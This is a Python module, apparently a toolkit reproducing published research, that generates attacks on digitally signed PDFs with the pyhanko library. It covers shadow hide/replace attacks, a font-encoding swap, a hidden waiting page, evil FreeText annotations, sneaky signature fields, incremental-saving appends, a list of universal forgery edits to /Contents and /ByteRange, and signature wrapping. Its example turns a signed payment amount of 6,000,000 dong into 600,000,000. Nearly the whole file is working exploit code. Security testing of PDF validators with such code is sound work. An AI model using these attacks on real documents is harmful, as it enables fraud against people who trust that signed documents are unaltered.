"""Attacks on signed PDF documents, each built from its public description.

Shadow attacks, incremental saving, universal forgery, signature wrapping and the attacks on certified
documents are those that researchers of Ruhr University Bochum described from 2019 to 2021.
"""

from __future__ import annotations

import io
import re

from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.generic import ArrayObject, DictionaryObject, NumberObject, StreamObject, pdf_name
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
from pyhanko.pdf_utils.writer import PdfFileWriter

PAGE = (0, 0, 595, 842)
BENIGN, HOSTILE = b"Ho tro 6.000.000 dong", b"Ho tro 600.000.000 dong"


def numbers(*values):
    return ArrayObject([NumberObject(value) for value in values])


def mapping(**entries):
    return DictionaryObject({pdf_name(f"/{name}"): value for name, value in entries.items()})


def text(words, *, at=(72, 700)):
    """Return a content stream that writes a line."""
    return StreamObject(stream_data=b"BT /F1 18 Tf %d %d Td (%s) Tj ET" % (*at, words))


def cover():
    """Return a content stream that paints the whole page white."""
    return StreamObject(stream_data=b"1 1 1 rg 0 0 595 842 re f")


def prepared():
    """Return a document as an attacker lays it out before it is signed, with what is hidden in it.

    Its page writes an amount and paints what the attacker chose over it; a form field shows the
    amount too; a second page that no tree names waits.
    """
    writer = PdfFileWriter(stream_xrefs=False)
    font = writer.add_object(
        mapping(Type=pdf_name("/Font"), Subtype=pdf_name("/Type1"), BaseFont=pdf_name("/Helvetica"))
    )
    resources = mapping(Font=mapping(F1=font))
    hostile = writer.add_object(text(HOSTILE))
    benign = writer.add_object(text(BENIGN, at=(72, 650)))
    curtain = writer.add_object(cover())
    page = mapping(
        Type=pdf_name("/Page"),
        MediaBox=numbers(*PAGE),
        Resources=resources,
        Contents=ArrayObject([hostile, curtain, benign]),
    )
    page_reference = writer.insert_page(page)
    field = writer.add_object(_form_field(writer, page_reference, resources))
    page[pdf_name("/Annots")] = ArrayObject([field])
    writer.root[pdf_name("/AcroForm")] = mapping(
        Fields=ArrayObject([field]), DR=resources, DA=generic.pdf_string("/F1 12 Tf")
    )
    writer.add_object(
        mapping(
            Type=pdf_name("/Page"),
            Parent=writer.root.raw_get("/Pages"),
            MediaBox=numbers(*PAGE),
            Resources=resources,
            Contents=ArrayObject([hostile]),
        )
    )
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _form_field(writer, page, resources):
    look = text(BENIGN, at=(2, 4))
    look.update(
        mapping(
            Type=pdf_name("/XObject"),
            Subtype=pdf_name("/Form"),
            BBox=numbers(0, 0, 300, 20),
            Resources=resources,
        )
    )
    return mapping(
        Type=pdf_name("/Annot"),
        Subtype=pdf_name("/Widget"),
        FT=pdf_name("/Tx"),
        T=generic.pdf_string("SoTien"),
        V=generic.pdf_string(BENIGN.decode()),
        Rect=numbers(72, 600, 372, 620),
        P=page,
        AP=mapping(N=writer.add_object(look)),
    )


def revised(pdf, change):
    """Return the document with one more revision, as an editor that saves incrementally makes it."""
    writer = IncrementalPdfFileWriter(io.BytesIO(pdf), strict=False)
    change(writer)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _page(writer):
    return writer.find_page_for_modification(0)[0].get_object()


def _waiting(writer):
    """Return the page that no tree names."""
    shown = {kid.reference.idnum for kid in writer.root["/Pages"]["/Kids"]}
    for number in range(1, int(writer.prev.trailer["/Size"])):
        reference = generic.Reference(number, 0, writer)
        found = writer.get_object(reference)
        if isinstance(found, DictionaryObject) and found.get("/Type") == "/Page" and number not in shown:
            return generic.IndirectObject(number, 0, writer)
    raise LookupError("no page waits")


def _field(writer):
    return writer.root["/AcroForm"]["/Fields"].raw_get(0)


def _rewrite(writer, reference, stream):
    """Give a stream another content."""
    found = reference.get_object()
    found._data, found._encoded_data = stream.data, None
    writer.mark_update(reference.reference)


def hide(writer):
    """Shadow attack, hide: what covered the hostile text is taken away after signing."""
    _rewrite(writer, _page(writer)["/Contents"].raw_get(1), StreamObject(stream_data=b" "))


def replace_by_form(writer):
    """Shadow attack, replace: the form field shows another amount after signing."""
    field = _field(writer).get_object()
    field[pdf_name("/V")] = generic.pdf_string(HOSTILE.decode())
    _rewrite(writer, field["/AP"].raw_get("/N"), text(HOSTILE, at=(2, 4)))
    writer.mark_update(_field(writer).reference)


def replace_by_font(writer):
    """Shadow attack, replace: the font's letters become others after signing."""
    reference = _page(writer)["/Resources"]["/Font"].raw_get("/F1")
    font = reference.get_object()
    differences = ArrayObject([NumberObject(54), pdf_name("/nine")])
    font[pdf_name("/Encoding")] = mapping(Type=pdf_name("/Encoding"), Differences=differences)
    writer.mark_update(reference.reference)


def hide_and_replace(writer):
    """Shadow attack, hide and replace: the page that waited takes the place of the one signed."""
    pages = writer.root["/Pages"]
    pages[pdf_name("/Kids")] = ArrayObject([_waiting(writer)])
    writer.mark_update(writer.root.raw_get("/Pages").reference)


def another_root(writer):
    """Shadow attack, hide and replace, by the catalogue: another tree of pages is put under the root."""
    tree = mapping(Type=pdf_name("/Pages"), Kids=ArrayObject([_waiting(writer)]), Count=NumberObject(1))
    writer.root[pdf_name("/Pages")] = writer.add_object(tree)
    writer.update_root()


SHADOWS = (hide, replace_by_form, replace_by_font, hide_and_replace, another_root)


def free_text(writer):
    """Evil annotation: a comment that looks like a part of the document."""
    note = mapping(
        Type=pdf_name("/Annot"),
        Subtype=pdf_name("/FreeText"),
        Rect=numbers(72, 680, 500, 720),
        Contents=generic.pdf_string(HOSTILE.decode()),
        DA=generic.pdf_string("/Helv 18 Tf"),
    )
    writer.register_annotation(writer.find_page_for_modification(0)[0], writer.add_object(note))


def sneaky_field(writer):
    """Sneaky signature: an empty signature field whose picture covers the text."""
    look = cover()
    look.update(mapping(Type=pdf_name("/XObject"), Subtype=pdf_name("/Form"), BBox=numbers(*PAGE)))
    page, _ = writer.find_page_for_modification(0)
    field = writer.add_object(
        mapping(
            Type=pdf_name("/Annot"),
            Subtype=pdf_name("/Widget"),
            FT=pdf_name("/Sig"),
            T=generic.pdf_string("KyThem"),
            Rect=numbers(*PAGE),
            P=page,
            AP=mapping(N=writer.add_object(look)),
        )
    )
    form = writer.root["/AcroForm"]
    form["/Fields"].append(field)
    writer.update_container(form["/Fields"])
    writer.register_annotation(page, field)


def objects_appended(pdf, *, table=False, trailer=False, end=True):
    """Incremental saving: the page's content again, with or without a table, trailer and end mark."""
    writer = IncrementalPdfFileWriter(io.BytesIO(pdf), strict=False)
    page, _ = writer.find_page_for_modification(0)
    number = page.idnum
    body = b"\n%d 0 obj\n<</Type/Page/MediaBox[0 0 595 842]/Contents 9999 0 R>>\nendobj\n" % number
    start = len(pdf) + 1
    tail = body
    if table:
        at = len(pdf) + len(tail)
        tail += b"xref\n%d 1\n%010d 00000 n \n" % (number, start)
        if trailer:
            previous = int(re.findall(rb"startxref\s+(\d+)", pdf)[-1])
            root = b"%d 0 R" % writer.root_ref.idnum
            tail += b"trailer\n<</Size 10000/Root %s/Prev %d>>\n" % (root, previous)
        tail += b"startxref\n%d\n" % at
    return pdf + tail + (b"%%EOF\n" if end else b"")


SAVINGS = {
    "only objects": {},
    "without an end mark": {"end": False},
    "with a table, without a trailer": {"table": True},
    "with table and trailer": {"table": True, "trailer": True},
}

_CONTENTS = re.compile(rb"/Contents <[0-9A-Fa-f]+>")
_RANGE = re.compile(rb"/ByteRange \[[^\]]*\]")
FORGERIES = {
    "contents missing": (_CONTENTS, b""),
    "contents null": (_CONTENTS, b"/Contents null"),
    "contents empty": (_CONTENTS, b"/Contents <>"),
    "contents zero": (_CONTENTS, b"/Contents <00>"),
    "contents a number": (_CONTENTS, b"/Contents 1"),
    "range missing": (_RANGE, b""),
    "range null": (_RANGE, b"/ByteRange null"),
    "range empty": (_RANGE, b"/ByteRange []"),
    "range of nothing": (_RANGE, b"/ByteRange [0 0 0 0]"),
    "range negative": (_RANGE, b"/ByteRange [0 -1 1 -1]"),
    "range beyond the file": (_RANGE, b"/ByteRange [0 9 9999999 9]"),
    "range of words": (_RANGE, b"/ByteRange [a b c d]"),
}
"""Universal signature forgery: what makes it a signature is taken away or made senseless."""


def forged(pdf, name):
    """Return the document with its last signature made senseless, the rest at its place."""
    pattern, instead = FORGERIES[name]
    found = list(pattern.finditer(pdf))[-1]
    return pdf[: found.start()] + instead.ljust(len(found[0])) + pdf[found.end() :]


def forged_in_a_revision(pdf, name):
    """Return the document with a later revision that holds the signature again, made senseless."""
    at = list(_CONTENTS.finditer(pdf))[-1].start()
    header = [each for each in re.finditer(rb"(?<![0-9])([0-9]{1,9}) 0 obj\s*<<", pdf) if each.start() < at][
        -1
    ]
    number = int(header[1])
    written = pdf[header.start() : pdf.index(b"endobj", at) + len(b"endobj")]
    pattern, instead = FORGERIES[name]
    body = pattern.sub(lambda _: instead, written)
    writer = IncrementalPdfFileWriter(io.BytesIO(pdf), strict=False)
    start = len(pdf)
    previous = int(re.findall(rb"startxref\s+(\d+)", pdf)[-1])
    table = (
        b"\nxref\n%d 1\n%010d 00000 n \ntrailer\n<</Size %d/Root %d 0 R/Prev %d>>\nstartxref\n%d\n%%%%EOF\n"
    )
    size = writer.prev.trailer["/Size"]
    place = start + len(body) + 1
    return pdf + body + table % (number, start, size, writer.root_ref.idnum, previous, place)


def wrapped(pdf, *, keeps_room=False):
    """Signature wrapping: the second signed part moves back, hostile objects take the room.

    The range of bytes lies inside the signed part, so the attacker rewrites it in the hope that a
    reader takes the first it meets; with ``keeps_room`` only the gap grows, by what the room of the
    signature's digits still has.
    """
    found = list(_RANGE.finditer(pdf))[-1]
    contents = list(_CONTENTS.finditer(pdf))[-1]
    first, second, rest = (int(number) for number in re.findall(rb"\d+", found[0])[1:])
    hostile = b"\n7777 0 obj\n<</Type/Page/MediaBox[0 0 9 9]>>\nendobj\n"
    if keeps_room:
        digits = pdf[contents.start() : contents.end()]
        used = len(digits.rstrip(b"0>"))
        changed = digits[:used] + b">" + hostile
        return pdf[: contents.start()] + changed.ljust(len(digits)) + pdf[contents.end() :]
    moved = b"/ByteRange [0 %d %d %d]" % (first, second + len(hostile), rest)
    head = pdf[: found.start()] + moved.ljust(len(found[0]))[: len(found[0])] + pdf[found.end() : second]
    return head + hostile + pdf[second:]
